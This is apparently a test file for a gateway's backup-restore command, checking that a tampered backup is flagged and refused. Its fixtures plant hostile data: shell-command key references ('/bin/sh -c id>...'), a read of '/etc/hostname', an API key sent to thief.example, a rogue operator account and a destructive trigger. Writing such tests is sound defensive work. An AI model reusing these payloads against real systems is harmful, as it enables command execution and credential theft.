/** A backup that another person has changed: its rows must not act before the operator consents. */

import { Database } from "bun:sqlite";
import { afterEach, beforeEach, expect, test } from "bun:test";
import {
  createReadStream,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { openBackup } from "../../../src/backup/reader.ts";
import { writeBackup } from "../../../src/backup/writer.ts";
import { createHome, type Home } from "../../setup/child.ts";

let home: Home;
let folder: string;
let file: string;
beforeEach(async () => {
  home = createHome();
  folder = join(home.dataDir, "..", "elsewhere");
  mkdirSync(folder);
  file = join(folder, "own.svcbackup");
  await home.json(["account", "create", "acme"]);
  await home.json(["backup", file]);
});
afterEach(() => home.remove());

const target = () => join(folder, "restored");
const secret = () => ({ SVC_SECRET: readFileSync(join(home.dataDir, "secret"), "utf8").trim() });
const restore = (from: string, ...more: string[]) =>
  home.svc(["restore", from, "--data-dir", target(), ...more], { environment: secret() });

/** The same backup with other rows and right checksums, as anyone can write it. */
async function changed(...statements: readonly string[]): Promise<string> {
  const passphrase = () => Promise.reject(new Error("not encrypted"));
  const bytes = createReadStream(file);
  const backup = await openBackup({ name: "own", bytes, passphrase });
  const pieces: Uint8Array[] = [];
  for await (const piece of backup.database()) pieces.push(piece);
  const path = join(folder, "changed.db");
  writeFileSync(path, Buffer.concat(pieces));
  const raw = new Database(path);
  for (const statement of statements) raw.run(statement);
  raw.run("PRAGMA journal_mode = DELETE");
  raw.close();
  const database = readFileSync(path);
  const parts: Uint8Array[] = [];
  const { header } = backup;
  const about = { ...backup.about, databaseBytes: database.length };
  const chunks = Array.from({ length: Math.ceil(database.length / 2 ** 20) }, (_, at) =>
    database.subarray(at * 2 ** 20, (at + 1) * 2 ** 20),
  );
  // The mark of the original belongs to another content.
  const markOf = () => backup.end.mark;
  const write = (part: Uint8Array) => Promise.resolve(void parts.push(part));
  await writeBackup({ header, about, markOf, database: chunks }, { write });
  const to = join(folder, "changed.svcbackup");
  writeFileSync(to, Buffer.concat(parts));
  return to;
}

const provider = (name: string, reference: string) =>
  `insert into providers (name, kind, base_url, api_key, allow_private)
   values ('${name}', 'openai', 'https://thief.example/v1', '{"variable":"${reference}"}', 0)`;

test("a backup of one's own needs no consent, and ends nothing", async () => {
  const { code, stdout } = await restore(file, "--json");
  expect([code, JSON.parse(stdout).ended_access]).toEqual([0, false]);
});

test("rows that another person has written are listed and refused, and nothing has run", async () => {
  const proof = join(folder, "ran");
  const backup = await changed(
    provider("runs", `command:/usr/bin/touch ${proof}`),
    provider("reads", "file:/etc/hostname"),
    provider("sends", "OPENAI_API_KEY"),
    provider("writes", `command:/bin/sh -c id>${proof};echo\\tkey`),
    // Options with the names of columns.
    `update providers set options = '{"api_key":{"text":""},"base_url":{"text":"https://api.openai.com"}}'`,
    `insert into users (id, email, name, password_hash, is_operator, operator_by_identity, created_at_ms)
     values ('u1', 'thief@thief.example', 'Thief', 'x', 1, 0, 1)`,
  );
  const { code, stderr } = await restore(backup);
  expect(code).toBe(1);
  expect(stderr).toContain(`provider runs runs /usr/bin/touch ${proof} for thief.example`);
  expect(stderr).toContain("provider reads reads the file /etc/hostname for thief.example");
  expect(stderr).toContain("provider sends sends the variable OPENAI_API_KEY to thief.example");
  expect(stderr).toContain("thief@thief.example administers the gateway");
  expect(stderr).toContain(
    `provider writes runs /bin/sh -c id>${proof};echo key for thief.example`,
  );
  expect([existsSync(join(target(), "svc.db")), existsSync(proof)]).toEqual([false, false]);
  expect((await restore(backup, "--trust")).code).toBe(0);
  expect(existsSync(proof)).toBe(false);
});

test("what a writer of the backup may have hidden in hashes is ended, and operators get a link", async () => {
  const moments = "1, 1, 9e15, '', ''";
  const backup = await changed(
    `insert into users (id, email, name, password_hash, is_operator, created_at_ms)
     values ('u1', 'op@acme.example', 'Op', 'x', 1, 1), ('u2', 'dev@acme.example', 'Dev', 'x', 0, 1)`,
    `insert into sessions (id, user_id, hash, created_at_ms, last_seen_ms, expires_at_ms, user_agent, address)
     values ('s', 'u1', 'h', ${moments})`,
    `insert into invites (id, hash, kind, created_by, created_by_id, created_at_ms, expires_at_ms)
     values ('i', 'h', 'operator', '', '', 1, 9e15)`,
    `insert into tokens (id, name, hash, hint, role, scopes, created_by, created_by_id, created_at_ms)
     values ('t', 't', 'h', '', 'operator', '["providers:write"]', '', '', 1)`,
    `insert into passkeys (id, user_id, name, public_key, counter, transports, rp_id, is_backed_up, created_at_ms)
     values ('p1', 'u1', '', '', 0, '[]', '', 0, 1), ('p2', 'u2', '', '', 0, '[]', '', 0, 1)`,
    `insert into identities values ('https://id.example', 'thief', 'u1', '', null, 1, 1)`,
  );
  expect((await restore(backup)).stderr).toContain("other users, who sign in as in the backup: 1");
  const { code, stdout } = await restore(backup, "--trust", "--json");
  expect([code, JSON.parse(stdout).ended_access]).toEqual([0, true]);
  const raw = new Database(join(target(), "svc.db"));
  const all = (sql: string) => raw.query(sql).values().flat();
  expect(all("select id from sessions union select id from invites")).toEqual([]);
  expect(all("select id from tokens where revoked_at_ms is null")).toEqual([]);
  expect(all("select password_hash from users order by id")).toEqual(["", "x"]);
  expect(all("select id from passkeys union select subject from identities")).toEqual(["p2"]);
  raw.close();
  const environment = { ...secret(), SVC_DATA_DIR: target() };
  const link = await home.svc(["operator", "reset", "op@acme.example"], { environment });
  expect([link.code, link.stdout]).toEqual([0, expect.stringContaining("http")]);
});

test("a passphrase does not show who wrote a backup that brings its own secret", async () => {
  const environment = { SVC_BACKUP_PASSPHRASE: "a passphrase of a stranger" };
  const encrypted = join(folder, "encrypted.svcbackup");
  await home.json(["backup", encrypted], { environment });
  const words = ["restore", encrypted, "--data-dir", target()];
  const { code, stderr } = await home.svc(words, { environment });
  expect([code, stderr]).toEqual([
    1,
    expect.stringContaining("this machine does not have the master secret of the backup"),
  ]);
  expect(existsSync(join(target(), "secret"))).toBe(false);
  expect((await home.svc([...words, "--trust"], { environment })).code).toBe(0);
  rmSync(target(), { recursive: true });
  const known = { environment: { ...environment, ...secret() } };
  expect((await home.svc(words, known)).code).toBe(0);
});

test("stored keys that would go to another host, and another schema, are listed", async () => {
  const { stderr } = await restore(
    await changed(
      `insert into providers (name, kind, base_url, api_key, allow_private)
       values ('moved', 'openai', 'https://thief.example/v1', '{"sealed":"x"}', 0)`,
      "create index mine on accounts (name)",
    ),
  );
  expect(stderr).toContain("provider moved sends prompts and any stored keys to thief.example");
  expect(stderr.match(/the .* is not as a gateway creates it/g)).toEqual([
    "the index mine is not as a gateway creates it",
  ]);
});

test("a trigger or a view is refused, also with consent", async () => {
  for (const program of [
    "create trigger t after insert on receipts begin delete from receipts; end",
    "create view v as select 1",
  ]) {
    const { code, stderr } = await restore(await changed(program), "--trust");
    expect([code, stderr.includes("which no gateway writes")]).toEqual([1, true]);
    expect(existsSync(join(target(), "svc.db"))).toBe(false);
  }
});
